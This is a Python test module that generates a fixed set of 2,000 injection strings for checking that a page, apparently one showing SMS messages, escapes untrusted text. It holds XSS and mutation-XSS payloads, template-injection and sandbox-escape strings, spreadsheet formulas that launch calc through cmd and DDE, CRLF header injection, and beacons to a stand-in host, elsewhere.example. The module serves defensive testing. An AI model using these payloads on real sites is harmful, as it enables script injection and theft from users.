"""Two thousand strings that would do something if a page took them for more than text. The same ones on every run.

Each that can run a script calls `__hit` with its own number, opens a dialog, or asks an address that is not ours.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

MANY = 2_000
LONGEST = 1_500
"""What one SMS may carry on every way that messages take here."""

ELSEWHERE = "//elsewhere.example/x"
EVENTS = """onload onerror onclick onmouseover onfocus onbegin onend ontoggle onanimationstart ontransitionend onpointerenter
onbeforetoggle onscrollend onwheel oncopy onpaste onmessage onhashchange onpageshow onresize onsubmit oninput onformdata
oncanplay onloadstart onauxclick oncontextlost onslotchange onsecuritypolicyviolation""".split()
TAGS = """img svg body iframe video audio input details marquee object embed form math style button select a base link meta
template noscript title textarea xmp plaintext frameset table td isindex keygen dialog portal fencedframe search slot
custom-tag picture source track area map canvas applet""".split()
SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java&Tab;script:", "&#106;avascript:",
    "data:text/html,", "vbscript:",
           "\x01javascript:", "javascript&colon;", "blob:", "feed:javascript:", "view-source:javascript:")  # fmt: skip
BREAKS = ("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</p>", "</li></ol>", "</textarea>", "</title>", "</style>",
          "</script>", "</noscript>", "</template>", "*/", "\\", "\\'", '\\"', "{{", "}}", "\n", "\r\n\r\n",
              "\u2028")  # fmt: skip
TEMPLATES = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% if %s %%}", "[[%s]]", "{{{%s}}}", "@(%s)",
    "{{constructor.constructor('%s')()}}",
             "{{''.__class__.__mro__[1]}}%s", "{%% raw %%}%s{%% endraw %%}", "<template>%s</template>", "${{%s}}")  # fmt: skip
MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<svg><foreignObject><p><![CDATA[</p><img src=x onerror={}>]]>",
    "<listing>&lt;img src=x onerror={}&gt;</listing>",
    "<a href='x' title='&quot;&gt;&lt;img src=x onerror={}&gt;'>",
    "<img src='`' onerror={}//`>",
    "<select><style></select><img src=x onerror={}></style>",
    "<xmp><svg onload={}></xmp>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><img src=x onerror={}>]]>",
    "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "<svg><animate attributeName=href values=javascript:{} begin=0s /><a><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={} /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}></svg>#x'/></svg>",
    "<math href='javascript:{}'><mi>x</mi></math>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<script type=module>{}</script>",
    "<script/x>{}</script>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=" + ELSEWHERE + "?{}>",
    "<style>@import '" + ELSEWHERE + "?{}';</style>",
    "<base href=" + ELSEWHERE + "?{}>",
    "<div style='background:url(" + ELSEWHERE + "?{})'>",
    "<video><source onerror={}>",
    "<details open ontoggle={}>",
    "<div popover id=x onbeforetoggle={}>",
    "<button popovertarget=x autofocus onfocus={}>",
    "<input autofocus onfocus={}>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
)
FORMULAS = ("=HYPERLINK(\"http:{1}\",{0})", "@SUM(1+1)*cmd|' /C calc'!{0}", "+{0}",
    "-2+3+cmd|' /C calc'!A{0}", "=IMPORTXML(\"http:{1}\",{0})",
            "\t={0}", "\r=1+{0}", "=DDE(\"cmd\";\"/C calc\";\"{0}\")")  # fmt: skip
TERMINAL = ("\x1b[2J{}", "\x1b]0;title {}\x07", "\x1b]8;;http:" + ELSEWHERE + "\x07{}\x1b]8;;\x07",
    "\x9b31m{}", "\x08\x08\x08{}", "\x7f{}",
            "\x00{}", "\x1bP{}\x1b\\", "\ufeff{}", "\ufffe{}", "\uffff{}")  # fmt: skip
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
INVISIBLE = "\u200b\u200c\u200d\u2060\u00ad\u034f\u180e\u115f\u3164\U000e0041\ufe0f"
SCRIPTS = (
    "ж",
    "ш",
    "أ",
    "ไ",
    "ท",
    "अ",
    "漢",
    "ქ",
    "ሰ",
    "ᎀ",
    "😀",
    "👩\u200d👩\u200d👧",
    "🇳🇴",
    "𝕏",
    "ｊ",
    "ℌ",
    "ﷺ",
    "𒐫",
    "꧅",
)
MARKS = [chr(code) for code in range(0x300, 0x36F)]
LINKS = ("https://xn--80ak6aa92e.com", "https://аpple.com", "https://user:pw@{0}", "//{0}",
    "https://ok.example\u202egpj.exe", "http://[::1]/{0}",
         "https://ok.example#@{0}", "mailto:a@b.c?body={0}", "tel:+47{0}", "file:///etc/passwd{0}",
             "https://ok.example\\@{0}")  # fmt: skip
SMS = (
    "¡£¤§{}¿",
    "é" * 70 + "{}",
    "\x0c{}",
    "^{{}}\\[~]|€{}",
    "\r{}\r",
    "ﬁﬂ{}",
    "%00%0d%0aSet-Cookie:x={}",
    "%ED%A0%80{}",
    "\\ud800{}",
    "&#xD800;{}",
    "&#0;{}",
)


def attack_strings(many: int = MANY) -> list[str]:
    """The first so many, each kind taken in turn; no two are alike and none is empty."""
    chance = random.Random(20261122)
    kinds = [kind(chance) for kind in KINDS]
    found: dict[str, None] = {}
    while len(found) < many:
        for kind in kinds:
            text = next(kind).replace("NUMBER", str(len(found)))[:LONGEST]
            if text.strip() and len(found) < many:
                found[text] = None
    return list(found)


def _call(chance: random.Random) -> str:
    return chance.choice(
        (
            "__hit(NUMBER)", "alert(NUMBER)", "top.__hit(NUMBER)", "self['__hit'](NUMBER)",
                "fetch('//elsewhere.example/NUMBER')",
            "__hit`NUMBER`", "(0,__hit)(NUMBER)", "window.name=__hit(NUMBER)", "import('//elsewhere.example/NUMBER')",
            "confirm(NUMBER)", "new Image().src='//elsewhere.example/NUMBER'", "document.title=__hit(NUMBER)",
        )
    )  # fmt: skip


def _tags(chance: random.Random) -> Iterator[str]:
    while True:
        tag, event, call, space = chance.choice(TAGS), chance.choice(EVENTS), _call(chance), chance.choice(" /\t\n\x0c")
        quoted = chance.choice(('"{}"', "'{}'", "{}")).format(call)
        more = chance.choice(
            ("", " src=x", " open", " autofocus tabindex=1", " style=animation-name:x", " href=javascript:" + call)
        )
        opening = f"<{_cased(chance, tag)}{space}{_cased(chance, event)}={quoted}{more}>"
        yield chance.choice(BREAKS) + opening + chance.choice(SCRIPTS)


def _scripts(chance: random.Random) -> Iterator[str]:
    while True:
        begins, ends = _cased(chance, "script"), _cased(chance, "script")
        yield f"{chance.choice(BREAKS)}<{begins}>{_call(chance)}</{ends}{chance.choice(' >/')}>"


def _addresses(chance: random.Random) -> Iterator[str]:
    while True:
        target = chance.choice(SCHEMES) + _call(chance)
        shape = chance.choice(
            (
                "{}",
                "<a href='{}'>x</a>",
                "[x]({})",
                "<iframe src='{}'>",
                "<form action='{}'><button>",
                "![x]({})",
                "<{}>",
            )
        )
        yield shape.format(target)


def _attributes(chance: random.Random) -> Iterator[str]:
    while True:
        yield f"{chance.choice(BREAKS)} {chance.choice(EVENTS)}={chance.choice(('', chr(34), chr(39)))}{_call(chance)} x="


def _mutations(chance: random.Random) -> Iterator[str]:
    while True:
        yield chance.choice(BREAKS) + chance.choice(MUTATIONS).replace("{}", _call(chance))


def _templates(chance: random.Random) -> Iterator[str]:
    while True:
        yield chance.choice(BREAKS) + chance.choice(TEMPLATES) % _call(chance)


def _encoded(chance: random.Random) -> Iterator[str]:
    while True:
        plain = f"<img src=x onerror={_call(chance)}>"
        how: Callable[[str], str] = chance.choice(
            (
                quote,
                lambda text: quote(quote(text)),
                lambda text: "".join(f"&#{ord(one)};" for one in text),
                lambda text: "".join(f"&#x{ord(one):x}" for one in text),
                lambda text: "".join(f"\\u{ord(one):04x}" for one in text),
                lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
                lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
                lambda text: text.replace("<", "\u2039").replace("i", "\u0131"),
                lambda text: "+ADw-" + text[1:-1] + "+AD4-",
            )
        )
        yield how(plain)


def _writing(chance: random.Random) -> Iterator[str]:
    while True:
        word = "".join(chance.choices(SCRIPTS, k=chance.randint(1, 12)))
        kind = chance.randrange(5)
        if kind == 0:
            yield "".join(letter + "".join(chance.choices(MARKS, k=25)) for letter in "zalgo") + "NUMBER"
        elif kind == 1:
            yield "".join(chance.choice(BIDI) + letter for letter in f"{word} <b>NUMBER</b>")
        elif kind == 2:
            yield "".join(chance.choice(INVISIBLE) + letter for letter in f"<i onclick={_call(chance)}>")
        elif kind == 3:
            yield chance.choice(SCRIPTS) * chance.randint(200, 700) + "NUMBER"
        else:
            yield f"{word}{chance.choice(BREAKS)}{word}NUMBER"


def _others(chance: random.Random) -> Iterator[str]:
    while True:
        shape = chance.choice((*FORMULAS, *TERMINAL, *LINKS, *SMS))
        yield (
            shape.replace("{{", "{")
            .replace("}}", "}")
            .replace("{0}", "NUMBER")
            .replace("{1}", ELSEWHERE)
            .replace("{}", f"<u>{_call(chance)}</u>")
        )


def _cased(chance: random.Random, word: str) -> str:
    return "".join(chance.choice((one, one, one.upper())) for one in word)


KINDS = (_tags, _scripts, _addresses, _attributes, _mutations, _templates, _encoded, _writing, _others)
